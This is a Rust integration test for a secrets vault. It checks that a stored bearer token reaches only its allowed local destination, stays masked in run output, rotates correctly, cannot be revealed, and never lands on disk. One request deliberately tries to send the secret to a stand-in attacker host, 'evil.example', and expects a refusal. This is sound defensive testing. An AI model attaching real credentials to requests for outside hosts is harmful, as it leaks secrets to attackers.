//! The main job: store a secret, use it, never see it.

use std::sync::{Arc, Mutex};

use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};

use crate::harness::Server;

/// An upstream that keeps what it got and sends it all back.
async fn echo() -> (u16, Arc<Mutex<Vec<String>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let log = Arc::clone(&seen);
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = listener.accept().await {
            let log = Arc::clone(&log);
            tokio::spawn(async move {
                let mut buffer = vec![0; 65536];
                while let Ok(read @ 1..) = stream.read(&mut buffer).await {
                    let request = String::from_utf8_lossy(&buffer[..read]).into_owned();
                    log.lock().unwrap().push(request.clone());
                    let answer = format!(
                        "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: {}\r\n\r\n{request}",
                        request.len()
                    );
                    if stream.write_all(answer.as_bytes()).await.is_err() {
                        return;
                    }
                }
            });
        }
    });
    (port, seen)
}

/// Store, publish, run, rotate, run again: the service gets the value, and nobody else does.
#[tokio::test]
async fn a_secret_is_used_and_never_seen() {
    let server = Server::start().await;
    let (port, seen) = echo().await;
    let (first, second) = ("sk_live_Zq8Wn3Lk5Rt7Yp2Xc9Vb4Mf6", "sk_live_Hd7Js2Kf9Lw4Qe8Rt3Yu6Io1");
    let destination = json!({"host": "127.0.0.1", "scheme": "http", "port": port, "paths": ["/v1/**"]});
    let made = server
        .owner
        .post("/secrets", json!({"name": "STRIPE_KEY", "type": "bearer_token", "destinations": [destination], "values": {"test": {"token": first}}}))
        .await;
    assert_eq!(made.expect(201)["environments"]["test"]["version"], 1);
    assert!(!made.text.contains(first));
    let editor = server.client("editor").await;
    let definition = json!({"steps": [{"id": "charge", "http": {"method": "POST", "url": format!("http://127.0.0.1:{port}/v1/charges"), "auth": {"secret": "STRIPE_KEY"}, "body": {"form": {"amount": "{{input.amount}}"}}}}]});
    editor.put("/automations/charge", definition).await.expect(201);
    let run = editor
        .post("/automations/charge/runs?wait=10", json!({"environment": "test", "input": {"amount": 5}}))
        .await;
    assert_eq!(run.expect(201)["status"], "succeeded", "{}", run.text);
    assert!(seen.lock().unwrap()[0].contains(&format!("Bearer {first}")));
    assert!(!run.text.contains(first) && run.text.contains("[sealed:STRIPE_KEY]"), "{}", run.text);

    assert_eq!(
        server
            .owner
            .put("/secrets/STRIPE_KEY/values/test", json!({"fields": {"token": second}}))
            .await
            .expect(201)["version"],
        2
    );
    let run = editor
        .post("/automations/charge/runs?wait=10", json!({"environment": "test", "input": {"amount": 5}}))
        .await;
    assert_eq!(run.expect(201)["status"], "succeeded");
    assert!(seen.lock().unwrap()[1].contains(&format!("Bearer {second}")));
    assert!(!run.text.contains(second));

    let elsewhere = editor
        .post(
            "/requests",
            json!({"environment": "test", "url": "https://evil.example/", "auth": {"secret": "STRIPE_KEY"}}),
        )
        .await;
    elsewhere.refused(403, "destination_not_allowed");
    editor.post("/secrets/STRIPE_KEY/values/test/reveal", json!({})).await.refused(403, "forbidden");
    server
        .owner
        .post("/secrets/STRIPE_KEY/values/test/reveal", json!({}))
        .await
        .refused(403, "restricted_secret");
    let denied = server.owner.newest_event("verb=secret.use&outcome=denied").await;
    assert_eq!(
        (&denied["code"], &denied["object"]),
        (&json!("destination_not_allowed"), &json!("secret:STRIPE_KEY"))
    );
    for (path, bytes) in server.files() {
        for value in [first, second] {
            assert!(
                !bytes.windows(16).any(|window| value.as_bytes().windows(16).any(|part| part == window)),
                "{}",
                path.display()
            );
        }
    }
}
